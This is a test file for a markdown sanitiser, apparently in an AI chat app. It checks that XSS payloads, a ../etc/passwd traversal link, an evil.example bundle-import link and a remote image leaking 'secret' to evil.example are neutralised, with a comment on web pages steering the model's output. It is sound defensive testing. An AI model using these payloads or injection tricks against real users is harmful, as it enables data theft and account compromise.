// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown, workspaceLinkTarget } from './markdown.ts';

describe('renderMarkdown', () => {
  it('renders GFM tables and keeps safe links, opening them without an opener', () => {
    const html = renderMarkdown('| a | b |\n| - | - |\n| 1 | 2 |\n\n[site](https://example.org)');
    expect(html).toContain('<table>');
    expect(html).toContain('href="https://example.org"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
  });

  it('keeps only absolute http(s) links, so neither a page nor the model can link into the app', () => {
    const text =
      '[import](/?bundle=https://evil.example/b.json) [peek](preview/other/x.html) [ok](https://example.org/a)';
    const web = renderMarkdown(text, { isWebContent: true });
    expect(web).not.toContain('bundle=');
    expect(web).not.toContain('href="preview/');
    expect(web).toContain('href="https://example.org/a"');
    expect(web).toContain('import');
    // Model text (which a page may have steered) gets the same rule, and may write mail links.
    expect(renderMarkdown(text)).not.toContain('bundle=');
    expect(renderMarkdown('[me](mailto:a@example.org)')).toContain('href="mailto:a@example.org"');
    expect(renderMarkdown('[me](mailto:a@example.org)', { isWebContent: true })).not.toContain('href');
    expect(renderMarkdown('[x](/a)', { isWebContent: true })).not.toContain('href');
  });

  it('turns model links to workspace files into openable elements, never links, and web content’s into text', () => {
    const text =
      '[report](/home/ubuntu/docs/tide%20tables.pdf) [up](/home/ubuntu/../../etc/passwd) [f](file:///home/ubuntu/a.md)';
    const container = document.createElement('div');
    container.innerHTML = renderMarkdown(text);
    const opened = [...container.querySelectorAll('[data-workspace-path]')];
    expect(opened.map((element) => element.getAttribute('data-workspace-path'))).toEqual([
      'docs/tide tables.pdf',
    ]);
    // A file: address is not kept as a link at all (the sanitiser drops it).
    expect(container.innerHTML).not.toContain('file:');
    expect(
      opened.every((element) => !element.hasAttribute('href') && element.getAttribute('role') === 'button'),
    ).toBe(true);
    expect(container.innerHTML).not.toContain('etc/passwd"');
    // A click on the link reaches a listener on the thread with the path to open.
    let clicked: string | null = null;
    container.addEventListener('click', (event) => {
      clicked = workspaceLinkTarget(event);
    });
    opened[0]?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    expect(clicked).toBe('docs/tide tables.pdf');
    expect(renderMarkdown(text, { isWebContent: true })).not.toContain('data-workspace-path');
  });

  it('shows text marked cannot parse as plain text instead of failing', () => {
    const html = renderMarkdown('1. t\n   >*\nl <b onclick="x()">');
    expect(html).toContain('<pre>1. t');
    // The tag is text, not an element.
    expect(html).toContain('&lt;b onclick=');
    expect(html).not.toMatch(/<b\b/);
  });

  it('makes script, event handlers and javascript: links inert', () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><a href="javascript:alert(2)">x</a><b onclick="alert(3)">y</b><svg onload="alert(4)"></svg>',
    );
    expect(html).not.toMatch(/<script|javascript:|onclick|onload/i);
  });

  it('drops remote images and form controls, and prefixes model-chosen ids', () => {
    const html = renderMarkdown(
      '![t](https://evil.example/leak?d=secret)\n\n<input value="Password"><span id="composer-input">z</span>',
    );
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<input');
    expect(html).not.toContain('id="composer-input"');
  });
});
